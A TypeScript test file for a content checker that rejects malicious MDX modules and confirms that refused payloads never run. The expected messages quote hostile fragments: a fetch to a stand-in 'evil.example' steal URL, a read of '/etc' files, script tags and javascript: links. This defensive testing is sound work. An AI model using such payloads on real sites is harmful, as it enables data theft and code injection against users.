import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { VFile } from 'vfile';
import { afterAll, describe, expect, it } from 'vitest';
import { formatMessage } from '../../src/content/report.ts';
import { checkUntrustedMdx } from '../../src/library/untrusted-mdx.ts';
import { buildSite } from '../helpers/build-site.ts';

const root = path.resolve(import.meta.dirname, '../..');
const corpus = path.join(root, 'tests/fixtures/untrusted');
const work = mkdtempSync(path.join(tmpdir(), 'relais-untrusted-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** The first message each malicious module must get: where, and which rule. */
const expected: Record<string, string> = {
  'comment-hiding-jsx.mdx': '3:1 untrusted-mdx Unexpected comment `{/* … */}`',
  'data-image.mdx': '1:1 untrusted-mdx Unexpected picture from `data:image/svg+xml',
  'embed.mdx': '1:1 untrusted-mdx Unexpected HTML element `<embed>`',
  'esm-export.mdx': '1:1 untrusted-mdx Unexpected `export` statement',
  'esm-import.mdx': '3:1 untrusted-mdx Unexpected `import` statement',
  'event-handler-split-lines.mdx': '3:3 untrusted-mdx Unexpected event handler `onClick` on `<Tip>`',
  'event-handler.mdx': '1:24 untrusted-mdx Unexpected event handler `onmouseover` on `<span>`',
  'expression-alone.mdx': "3:1 untrusted-mdx Unexpected expression `{fetch('https://evil.example/steal?c='…}`",
  'expression-in-prop.mdx': '1:7 untrusted-mdx Unexpected expression `{require(\'node:fs\').readFileSync(\'/etc…}` in prop `at` of `<Clip>`',
  'expression-in-text.mdx': '1:9 untrusted-mdx Unexpected expression `{process.exit(1)}`',
  'fragment.mdx': '1:1 untrusted-mdx Unexpected fragment `<>`',
  'html-comment.mdx': '1:9 mdx-syntax Invalid MDX: Unexpected character `!`',
  'iframe.mdx': '1:1 untrusted-mdx Unexpected HTML element `<iframe>`',
  'javascript-href-entity-split.mdx': '1:1 untrusted-mdx Unexpected HTML element `<a>`',
  'javascript-link-entity.mdx': '1:1 untrusted-mdx Unexpected `javascript:` link',
  'javascript-link-mixed-case.mdx': '1:1 untrusted-mdx Unexpected `javascript:` link',
  'javascript-link.mdx': '1:1 untrusted-mdx Unexpected `javascript:` link',
  'member-component.mdx': '1:1 unknown-component Unexpected component `<globalThis.process.exit>`',
  'namespace-element.mdx': '1:1 unknown-component Unexpected component `<svg:script>`',
  'nested-components.mdx': '5:1 untrusted-mdx Unexpected HTML element `<img>`',
  'object.mdx': '1:1 untrusted-mdx Unexpected HTML element `<object>`',
  'remote-image.mdx': '1:1 untrusted-mdx Unexpected picture from `https://evil.example/pixel.png`',
  'script-lower-mixed-case.mdx': '1:7 untrusted-mdx Unexpected HTML element `<sCrIpT>`',
  'script-mixed-case.mdx': '1:1 unknown-component Unexpected component `<ScRiPt>`',
  'script.mdx': '1:1 untrusted-mdx Unexpected HTML element `<script>`',
  'spread-props.mdx': '1:6 untrusted-mdx Unexpected spread props `{...globalThis}` on `<Tip>`',
  'style.mdx': '1:1 untrusted-mdx Unexpected HTML element `<style>`',
  'svg.mdx': '1:1 untrusted-mdx Unexpected HTML element `<svg>`',
  'writes-file.mdx': '13:1 untrusted-mdx Unexpected `export` statement',
  'yaml-alias.mdx': '2:8 untrusted-mdx Unexpected YAML anchor `&t`',
  'yaml-tag.mdx': '2:8 untrusted-mdx Unexpected YAML tag `!!js/function`',
};

const relais = (args: string[], env: Record<string, string> = {}) =>
  spawnSync(process.execPath, [path.join(root, 'bin/relais.mjs'), 'check', ...args], { cwd: root, encoding: 'utf8', env: { ...process.env, ...env } });

describe('the untrusted-MDX policy (checkUntrustedMdx)', () => {
  it('has an expectation for every module of the corpus', () => {
    expect(readdirSync(corpus).sort()).toEqual(Object.keys(expected).sort());
  });

  it.each(Object.entries(expected))('rejects %s at its place', (name, first) => {
    const text = readFileSync(path.join(corpus, name), 'utf8');
    const file = new VFile({ path: name, value: text });
    expect(checkUntrustedMdx(text, file)).toBe(false);
    const [message] = [...file.messages].sort((a, b) => (a.line ?? 0) - (b.line ?? 0) || (a.column ?? 0) - (b.column ?? 0));
    expect(`${message!.line}:${message!.column} ${message!.ruleId} ${message!.reason}`.startsWith(first), formatMessage(file, message!)).toBe(true);
    expect(file.messages.every((m) => m.fatal === true && m.source === 'relais')).toBe(true);
  });

  it('accepts Markdown, text formatting, escaped braces, entities and code shown as code', () => {
    const text = readFileSync(path.join(root, 'tests/fixtures/untrusted-accepted/harmless.mdx'), 'utf8');
    const file = new VFile({ path: 'harmless.mdx', value: text });
    expect(checkUntrustedMdx(text, file), file.messages.map((m) => formatMessage(file, m)).join('\n')).toBe(true);
  });

  it('`relais check --untrusted` rejects every file of the corpus, with file:line:col', () => {
    const result = relais(['--untrusted', 'tests/fixtures/untrusted']);
    expect(result.status).toBe(1);
    for (const name of Object.keys(expected)) expect(result.stdout).toMatch(new RegExp(`^tests/fixtures/untrusted/${name.replace('.', '\\.')}:\\d+:\\d+  error  `, 'm'));
    expect(relais(['--untrusted', 'tests/fixtures/untrusted-accepted']).stdout).toMatch(/^0 errors/m);
  });
});

describe('nothing in a refused module runs', () => {
  const payload = /^\{(globalThis\.process\.getBuiltinModule[^\n]*)\}$/m.exec(readFileSync(path.join(corpus, 'writes-file.mdx'), 'utf8'))![1]!;

  it('the payload is live: evaluated, it writes its file (control)', () => {
    const proof = path.join(work, 'control.txt');
    process.env.RELAIS_PROOF_FILE = proof;
    try {
      new Function(payload)();
    } finally {
      delete process.env.RELAIS_PROOF_FILE;
    }
    expect(readFileSync(proof, 'utf8')).toBe('expression ran');
  });

  it('`relais check --untrusted` parses it and writes nothing', () => {
    const proof = path.join(work, 'check.txt');
    const result = relais(['--untrusted', 'tests/fixtures/untrusted/writes-file.mdx'], { RELAIS_PROOF_FILE: proof });
    expect(result.status).toBe(1);
    expect(result.stdout).toContain('tests/fixtures/untrusted/writes-file.mdx:13:1  error  Unexpected `export` statement');
    expect(result.stdout).toContain('tests/fixtures/untrusted/writes-file.mdx:17:1  error  Unexpected expression');
    expect(result.stdout).toContain('tests/fixtures/untrusted/writes-file.mdx:31:7  error  Unexpected expression');
    expect(existsSync(proof)).toBe(false);
  });

  it('the build refuses it before compiling any MDX, and writes nothing', async () => {
    const contentDir = path.join(work, 'library');
    cpSync(path.join(root, 'tests/fixtures/library'), contentDir, { recursive: true });
    writeFileSync(path.join(contentDir, 'modules/menuiserie/piege.mdx'), readFileSync(path.join(corpus, 'writes-file.mdx')));
    const proof = path.join(work, 'build.txt');
    const outDir = path.join(work, 'dist');
    const result = await buildSite({ contentDir, outDir, cacheDir: path.join(work, 'cache'), env: { RELAIS_PROOF_FILE: proof } });
    expect(result.code).not.toBe(0);
    expect(result.output).toMatch(/piege\.mdx:13:1  error  Unexpected `export` statement, .*  untrusted-mdx  relais/);
    expect(result.output).toContain('The library has 3 errors');
    // Stopped in astro:config:setup: no page was rendered, no module bundled.
    expect(result.output).not.toMatch(/generating static routes|building client|Building static entrypoints/i);
    expect(existsSync(path.join(outDir, 'index.html'))).toBe(false);
    expect(existsSync(proof)).toBe(false);
  });
});
